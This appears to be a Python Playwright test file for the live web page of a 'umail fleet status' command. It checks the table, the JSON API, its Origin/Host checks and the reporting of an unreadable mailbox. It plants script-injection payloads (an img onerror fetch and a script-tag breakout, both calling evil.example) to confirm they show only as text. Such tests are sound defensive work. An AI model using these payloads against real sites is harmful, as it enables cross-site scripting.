"""The page of `umail fleet status --web` in a real Chromium: the same table, live, and hostile text is only shown."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import expect

from host.fleet.said import BOARD, DAY, KEY, deliver, header, mail, maildir
from host.web.conftest import Watched
from umail_host.fleet import keys

OTHER = "240ac4000002"
EVIL = "<img src=//evil.example/i onerror=\"fetch('//evil.example/e')\">"


class Page:
    """The command at work: its page, its Maildir, and the same question asked for JSON."""

    def __init__(self, folder: Path) -> None:
        self.file, self.box, self.store = folder / "fleet.toml", maildir(folder / "mails"), folder / "fleet.sqlite"
        entries = (("freezer-1", BOARD), (EVIL, OTHER))
        boards = "".join(f"[[board]]\nboard_name = {json.dumps(name)}\nid = '{board}'\n" for name, board in entries)
        self.file.write_text(boards, encoding="utf-8")
        command = [sys.executable, "-m", "umail_host.cli", "fleet", "status", str(self.file), "--from", str(self.box)]
        self.command = [*command, "--store", str(self.store)]

    def start(self) -> None:
        self.process = subprocess.Popen([*self.command, "--web", "--no-open"], stdout=subprocess.PIPE, text=True)
        assert self.process.stdout is not None
        self.url = self.process.stdout.readline().removeprefix("page: ").strip()

    def stop(self) -> int:
        self.process.send_signal(signal.SIGINT)
        return self.process.wait(20)

    def ask(self, path: str, **headers: str) -> Any:
        request = urllib.request.Request(self.url + path, headers=headers)
        with urllib.request.urlopen(request, timeout=30) as answer:
            return json.loads(answer.read())

    def said(self, board: str, number: int, **more: object) -> None:
        now = int(time.time())
        more = {"t": now - 100, "due": now + DAY} | more
        deliver(self.box, mail(id=board, n=now + number, **more), f"{now}.M{number}.{board}")


@pytest.fixture
def page(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Page]:
    monkeypatch.setenv(keys.VARIABLE, str(tmp_path / "keys.json"))
    for board in (BOARD, OTHER):
        keys.put(board, KEY)
    made = Page(tmp_path)
    made.start()
    yield made
    if made.process.poll() is None:
        made.stop()


def cells(watched: Watched) -> list[list[str]]:
    rows = "rows => rows.map(row => [...row.children].map(cell => cell.textContent))"
    found: list[list[str]] = watched.page.eval_on_selector_all("tbody tr", rows)
    return found


def test_what_a_board_mails_appears_by_itself_and_hostile_text_is_only_shown(
    page: Page, watched: Watched, evil: Any
) -> None:
    before = len(evil.heard)
    watched.page.goto(page.url)
    expect(watched.page.locator("#summary")).to_have_text("2 boards, 2 silent or never seen")
    assert [row[:2] for row in cells(watched)] == [[EVIL, "never seen"], ["freezer-1", "never seen"]]
    page.said(BOARD, 1, bat=3912, rssi=-61)
    script = quote("</script><script>fetch('//evil.example/s')", safe="")
    page.said(OTHER, 2, name=script, on=quote(EVIL, safe=""), fw=quote("<b>2", safe=""))
    deliver(page.box, mail(header(id="ff"), "x@x"), "1790000000.M3.x")
    expect(watched.page.locator("#summary")).to_have_text("2 boards, 0 silent or never seen")
    hostile, plain = cells(watched)
    assert plain[:2] == ["freezer-1", "ok"]
    assert plain[5:7] == ["3.91 V", "-61 dBm"]
    assert hostile[0] == EVIL
    assert f"alert: {EVIL}" in hostile[-1]
    assert "calls itself </script>" in hostile[-1]
    assert watched.page.locator("#odd li").inner_text().startswith("does not count: 1 mail of a board whose key")
    assert watched.page.locator("tbody :not(tr, th, td)").count() == 0
    expect(watched.page.locator(".live")).to_have_text("live")
    assert all(asked.startswith(page.url) for asked in watched.asked)
    assert not watched.errors
    assert len(evil.heard) == before
    report = Axe().run(watched.page)
    assert not report.response["violations"], report.generate_report()
    if folder := os.environ.get("UMAIL_SCREENSHOTS"):
        watched.page.screenshot(path=Path(folder) / "page-fleet.png")


def test_the_pages_json_is_that_of_the_command_and_nobody_elses(page: Page) -> None:
    page.said(BOARD, 1, bat=3912, due=int(time.time()) - 2 * DAY)
    until = time.monotonic() + 20
    while (shown := page.ask("api/v1/fleet"))["boards"][1].get("battery_mv") != 3912:
        assert time.monotonic() < until, shown
        time.sleep(0.2)
    done = subprocess.run([*page.command, "--json"], capture_output=True, text=True, check=False)
    assert done.returncode == 1, done.stderr
    assert shown | {"now": 0} == json.loads(done.stdout) | {"now": 0}
    with pytest.raises(urllib.error.HTTPError, match="403"):
        page.ask("api/v1/fleet", Origin="http://evil.example")
    with pytest.raises(urllib.error.HTTPError, match="421"):
        page.ask("api/v1/fleet", Host="evil.example")
    assert page.stop() == 0


def test_a_mailbox_that_can_no_longer_be_read_is_told_on_the_page(page: Page, watched: Watched) -> None:
    page.said(BOARD, 1)
    watched.page.goto(page.url)
    expect(watched.page.locator("#summary")).to_have_text("2 boards, 1 silent or never seen")
    moved = page.box.with_name("moved")
    page.box.rename(moved)
    expect(watched.page.locator("#trouble")).to_contain_text("can't be read")
    moved.rename(page.box)
    expect(watched.page.locator("#trouble")).to_be_hidden()
    assert not watched.errors
    page.stop()
    expect(watched.page.locator(".live")).to_have_text("not connected")
